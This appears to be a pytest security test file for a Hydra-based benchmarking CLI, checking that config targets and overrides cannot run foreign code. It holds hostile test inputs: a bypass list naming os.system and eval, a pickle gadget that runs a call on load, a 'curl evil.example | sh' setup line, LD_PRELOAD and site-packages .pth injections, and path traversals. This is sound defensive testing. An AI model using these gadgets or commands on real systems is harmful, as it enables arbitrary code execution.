"""No config or override can make `bench` run code that the project does not ship.

BYPASSES is the list of targets that reached foreign code when `_target_` was only
checked for the prefix `benchmark.` (Hydra resolves dotted paths through module
attributes). The end-to-end tests use a pickle that creates a directory when it is
loaded: if the directory exists afterwards, the foreign code ran.
"""

import os
import pickle

import pytest
from conftest import bench

from benchmark.build import build, resolve_target
from benchmark.errors import BenchError
from benchmark.safety import UnsafeConfigError, check_hydra_config

BYPASSES = [
    "benchmark.results.tables.pd.read_pickle", # pandas through a module attribute
    "benchmark.runner.torch.load",             # torch.load (weights_only=False loads pickles)
    "benchmark.cache.shutil.copyfile",         # writes any file
    "benchmark.cache.os.system",
    "benchmark.build.importlib.import_module",
    "benchmark.transforms.jpeg.Image.open",
    "benchmark.transforms.base.np.load",
    "benchmark.transforms.jpeg.PillowTransform",  # a component class, but imported, not defined
    "benchmark.runner.Job",                    # project class outside the component packages
    "benchmark.cli.main",
    "benchmark.errors.BenchError",
    "benchmark.transforms.jpeg.check",         # a function defined in the project
    "benchmark.models.hub.pull",               # a network download
    "benchmark.models.diffusion.load_sd_components",
    "pandas.read_pickle",
    "builtins.eval",
    "os.system",
    "benchmark",
    "",
]


class _Marker:
    """Unpickling it creates a directory: the proof that foreign code ran."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return os.mkdir, (self.path,)


@pytest.fixture
def evil(workdir):
    marker = workdir / "pwned"
    payload = workdir / "evil.pkl"
    payload.write_bytes(pickle.dumps(_Marker(marker)))
    return payload, marker


@pytest.mark.parametrize("target", BYPASSES)
def test_every_known_bypass_is_refused_before_anything_is_called(target, tmp_path):
    copied = tmp_path / "copied"
    cfg = {"_target_": target, "src": __file__, "dst": str(copied)}
    with pytest.raises(BenchError, match="not allowed|cannot import|defines no"):
        build(cfg, "transform")
    assert not copied.exists()


def test_a_nested_bypass_refuses_the_whole_component():
    cfg = {"_target_": "benchmark.defenses.photoguard.PhotoGuardEncoder",
           "encoder": {"_target_": "benchmark.runner.torch.load", "f": "x"}}
    with pytest.raises(BenchError, match=r"defense\.encoder: _target_ 'benchmark.runner.torch"):
        build(cfg, "defense")


def test_project_components_still_resolve():
    from benchmark.models.encoders import InceptionEncoder
    from benchmark.transforms.jpeg import JpegCompression

    assert resolve_target("benchmark.transforms.jpeg.JpegCompression", "t") is JpegCompression
    assert resolve_target("benchmark.models.encoders.InceptionEncoder", "t") is InceptionEncoder
    assert build({"_target_": "benchmark.transforms.jpeg.JpegCompression", "quality": 50},
                 "transform").quality == 50


def test_an_unknown_key_names_the_component_and_its_keys():
    with pytest.raises(BenchError, match=r"transform: cannot build .*JpegCompression.*'quality'"):
        build({"_target_": "benchmark.transforms.jpeg.JpegCompression", "qualty": 50}, "transform")


@pytest.mark.parametrize("hydra_cfg, key", [
    ({"callbacks": {"x": {"_target_": "pandas.read_pickle"}}}, "hydra.callbacks.x"),
    ({"callbacks": {"s": {"_target_": "benchmark.callbacks.SweepSummary",
                          "f": {"_target_": "os.system"}}}}, "hydra.callbacks.s.f"),
    ({"launcher": {"_target_": "hydra._internal.core_plugins.basic_launcher.BasicLauncher",
                   "x": {"_target_": "os.system"}}}, "hydra.launcher.x"),
    ({"sweeper": {"params": {"p": {"_target_": "os.system"}}}}, "hydra.sweeper.params.p"),
    ({"job_logging": {"handlers": {"h": {"class": "pandas.read_pickle"}}}},
     "hydra.job_logging.handlers.h.class"),
    ({"hydra_logging": {"formatters": {"f": {"()": "os.system"}}}},
     "hydra.hydra_logging.formatters.f.()"),
    ({"job_logging": {"handlers": {"h": {"class": "logging.StreamHandler",
                                         "stream": "ext://os.system"}}}},
     "hydra.job_logging.handlers.h.stream"),
])
def test_hydra_section_that_would_run_foreign_code_is_refused(hydra_cfg, key):
    with pytest.raises(UnsafeConfigError) as e:
        check_hydra_config({"hydra": hydra_cfg})
    assert str(e.value).startswith(key)


def composed(overrides: list[str], config_dir: str | None = None):
    """The config `bench run` would compose, with its hydra section, and bench's checks off."""
    from hydra import compose, initialize_config_dir
    from hydra._internal.config_loader_impl import ConfigLoaderImpl
    from hydra.core.global_hydra import GlobalHydra

    from benchmark.paths import config_dir as project_configs

    GlobalHydra.instance().clear()
    load = ConfigLoaderImpl.load_configuration
    # off also where a test before this one installed them in this process (bench plan does)
    ConfigLoaderImpl.load_configuration = getattr(load, "__wrapped__", load)
    try:
        with initialize_config_dir(str(project_configs()), version_base="1.3"):
            extra = [f"hydra.searchpath=[file://{config_dir}]"] if config_dir else []
            return compose("config", overrides + extra, return_hydra_config=True)
    finally:
        ConfigLoaderImpl.load_configuration = load
        GlobalHydra.instance().clear()


def project_config_overrides() -> list[list[str]]:
    """One composition per config file of the project: each group's each choice."""
    from benchmark.paths import config_dir

    root = config_dir()
    cases = [[f"hydra/launcher={p.stem}"] for p in (root / "hydra" / "launcher").glob("*.yaml")
             if p.stem != "ray_local"]  # ray is an optional extra
    for group in ("dataset", "defense", "transform", "generator", "encoder", "scale",
                  "experiment"):
        cases += [[f"{group}={p.stem}"] for p in sorted((root / group).glob("*.yaml"))]
    cases += [[f"metric=[{p.stem}]"] for p in sorted((root / "metric").glob("*.yaml"))]
    return cases


def test_every_config_file_of_the_project_passes_the_checks():
    from benchmark.safety import check_composed

    cases = project_config_overrides()
    assert len(cases) > 60  # every group was found
    for overrides in cases:
        if overrides[0].startswith("dataset=folder"):
            overrides = [*overrides, "dataset.root=/data"]
        check_composed(composed(overrides))  # must not raise


PAYLOAD = ["+payload._target_=pandas.read_pickle", "+payload.filepath_or_buffer=/tmp/x.pkl"]


@pytest.mark.parametrize("overrides, key", [
    # an interpolation brings a node with a _target_ into a checked key
    (["+hydra.callbacks.sweep_summary.filename=${payload}", *PAYLOAD],
     "hydra.callbacks.sweep_summary.filename"),
    (["+hydra.sweeper.x=${payload}", *PAYLOAD], "hydra.sweeper.x"),
    (["hydra/launcher=submitit_local", "hydra.launcher.timeout_min=${payload}", *PAYLOAD],
     "hydra.launcher.timeout_min"),
    (["hydra.job_logging.handlers.console.stream=${payload}", *PAYLOAD],
     "hydra.job_logging.handlers.console.stream"),
    # files outside the run or sweep directory
    (["+hydra.callbacks.sweep_summary.filename=/tmp/outside.csv"],
     "hydra.callbacks.sweep_summary.filename"),
    (["+hydra.callbacks.sweep_summary.filename=../../outside.csv"],
     "hydra.callbacks.sweep_summary.filename"),
    (["hydra.output_subdir=/tmp/outside"], "hydra.output_subdir"),
    (["hydra.output_subdir=../.."], "hydra.output_subdir"),
    (["hydra.sweep.subdir=../../x"], "hydra.sweep.subdir"),
    (["hydra.job_logging.handlers.file.filename=/tmp/site-packages/evil.pth"],
     "hydra.job_logging.handlers.file.filename"),
    (["hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/../../evil.pth"],
     "hydra.job_logging.handlers.file.filename"),
    (["hydra.job.name=../../evil"], "hydra.job.name"),
    (["+hydra.hydra_logging.handlers.f.class=logging.FileHandler",
      "+hydra.hydra_logging.handlers.f.filename=/tmp/evil.pth"],
     "hydra.hydra_logging.handlers.f.filename"),
    (["hydra/launcher=submitit_local", "hydra.launcher.submitit_folder=/tmp/elsewhere/%j"],
     "hydra.launcher.submitit_folder"),
    # logging classes and keys outside the allow-list
    (["hydra.job_logging.handlers.console.class=logging.handlers.SocketHandler"],
     "hydra.job_logging.handlers.console.class"),
    (["+hydra.job_logging.handlers.console.host=example.org"],
     "hydra.job_logging.handlers.console.host"),
    # environment and config search paths
    (["+hydra.job.env_set.LD_PRELOAD=/tmp/evil.so"], "hydra.job.env_set.LD_PRELOAD"),
    (["hydra.searchpath=[pkg://antigravity]"], "hydra.searchpath[0]"),
])
def test_resolved_hydra_section_is_checked(overrides, key):
    from benchmark.safety import check_composed

    with pytest.raises(BenchError) as e:  # refused, or a payload that cannot be the key's type
        check_composed(composed(overrides))
    assert str(e.value).startswith(key), str(e.value)


def test_a_payload_anywhere_in_the_job_config_is_refused_by_name():
    from benchmark.safety import check_composed

    with pytest.raises(UnsafeConfigError, match=r"^payload: _target_ 'pandas.read_pickle'"):
        check_composed(composed(PAYLOAD))


def test_launcher_shell_lines_come_from_the_shipped_file_or_the_command_line(tmp_path):
    from benchmark.safety import check_composed

    shipped = composed(["hydra/launcher=slurm"])
    check_composed(shipped)
    assert "export OMP_NUM_THREADS" in shipped.hydra.launcher.setup[0]  # and it is shell
    typed = composed(["hydra/launcher=slurm", "hydra.launcher.setup=[module load cuda]"])
    check_composed(typed)
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "shared.yaml").write_text(
        "# @package _global_\nhydra:\n  launcher:\n    setup: ['curl evil.example | sh']\n")
    preset = composed(["hydra/launcher=slurm", "experiment=shared"], str(tmp_path))
    with pytest.raises(UnsafeConfigError, match=r"^hydra.launcher.setup: refused from a config"):
        check_composed(preset)


@pytest.mark.parametrize("override, key", [
    ("notice=${oc.env:BENCH_TEST_UNSET_VARIABLE}", "notice"),
    ("seed=${nope.key}", "seed"),
    ("seed=${seed}", "seed"),
    ("hydra.run.dir=${oc.env:BENCH_TEST_UNSET_VARIABLE}", "hydra.run.dir"),
])
def test_an_unresolvable_interpolation_names_its_key(override, key):
    from benchmark.safety import UnresolvableConfigError, check_composed

    with pytest.raises(UnresolvableConfigError) as e:
        check_composed(composed([override]))
    assert str(e.value).startswith(f"{key}: cannot resolve"), str(e.value)


RUN = ["defense=none", "transform=jpeg", "metric=[psnr]", "pairs=[fidelity]",
       "dataset.limit=1", "dataset.resolution=32", "progress=false"]


@pytest.mark.parametrize("overrides", [
    ["transform._target_=benchmark.results.tables.pd.read_pickle",
     "+transform.filepath_or_buffer={payload}"],
    ["transform._target_=benchmark.runner.torch.load", "+transform.f={payload}",
     "+transform.weights_only=false"],
    ["+metric.x._target_=benchmark.results.tables.pd.read_pickle",
     "+metric.x.filepath_or_buffer={payload}"],
    ["transform=chain",
     ("transform.steps=[{{_target_:benchmark.results.tables.pd.read_pickle,"
      "filepath_or_buffer:'{payload}'}}]")],
    ["+hydra.callbacks.x._target_=pandas.read_pickle",
     "+hydra.callbacks.x.filepath_or_buffer={payload}"],
    ["+hydra.job_logging.handlers.x.class=pandas.read_pickle",
     "+hydra.job_logging.handlers.x.filepath_or_buffer={payload}"],
], ids=["component", "torch.load", "metric", "chain-step", "callback", "logging"])
def test_bench_run_refuses_the_bypass_and_runs_nothing(overrides, workdir, evil):
    payload, marker = evil
    args = [o.format(payload=payload) for o in overrides]
    proc = bench("run", *RUN, *args, "hydra.run.dir=out", cwd=workdir, check=False)
    assert proc.returncode != 0
    assert not marker.exists(), "the pickle was loaded: foreign code ran"
    assert "Traceback" not in proc.stderr
    assert "not allowed" in proc.stderr or "refused" in proc.stderr


@pytest.mark.parametrize("route", ["override", "preset"])
def test_an_interpolated_payload_runs_nothing(route, workdir, evil):
    payload, marker = evil
    target = ["+payload._target_=pandas.read_pickle", f"+payload.filepath_or_buffer={payload}"]
    args = ["+hydra.callbacks.sweep_summary.filename=${payload}", *target]
    if route == "preset":  # a shared --config-dir: nothing on the command line names the payload
        (workdir / "shared" / "experiment").mkdir(parents=True)
        (workdir / "shared" / "experiment" / "paper.yaml").write_text(
            "# @package _global_\npayload:\n  _target_: pandas.read_pickle\n"
            f"  filepath_or_buffer: {payload}\nhydra:\n  callbacks:\n    sweep_summary:\n"
            "      filename: ${payload}\n")
        args = ["--config-dir", "shared", "experiment=paper"]
    proc = bench("run", "-m", *args, *RUN, "hydra.sweep.dir=sweep", cwd=workdir, check=False)
    assert not marker.exists(), "the pickle was loaded: foreign code ran"
    assert proc.returncode != 0
    assert "Traceback" not in proc.stderr and "refused" in proc.stderr or \
        "not allowed" in proc.stderr, proc.stderr
    assert not (workdir / "sweep").exists()  # refused before any job


def test_a_log_file_outside_the_run_is_never_written(workdir):
    outside = workdir / "site-packages" / "evil.pth"
    outside.parent.mkdir()
    proc = bench("run", *RUN, f"hydra.job_logging.handlers.file.filename={outside}",
                 "hydra.run.dir=out", cwd=workdir, check=False)
    assert not outside.exists()
    assert proc.returncode == 1
    assert proc.stderr.strip().splitlines()[-1].startswith(
        "hydra.job_logging.handlers.file.filename"), proc.stderr


def test_experimental_rerun_is_refused_without_unpickling(workdir, evil):
    payload, marker = evil
    proc = bench("run", "--experimental-rerun", str(payload), cwd=workdir, check=False)
    assert proc.returncode == 2 and not marker.exists()
    assert "--experimental-rerun is refused" in proc.stderr


def test_environment_values_stay_interpolations_in_config_yaml(workdir, monkeypatch):
    monkeypatch.setenv("BENCH_TEST_TOKEN", "hf_secret_token_123")
    monkeypatch.setenv("BENCH_TEST_ROOT", str(workdir / "images"))
    bench("run", *RUN, "notice=${oc.env:BENCH_TEST_TOKEN}", "hydra.run.dir=out", cwd=workdir)
    written = (workdir / "out" / "config.yaml").read_text()
    assert "hf_secret_token_123" not in written
    assert "${oc.env:BENCH_TEST_TOKEN}" in written
    assert str(workdir / "cache") in written  # cache_dir, a path, stays resolved
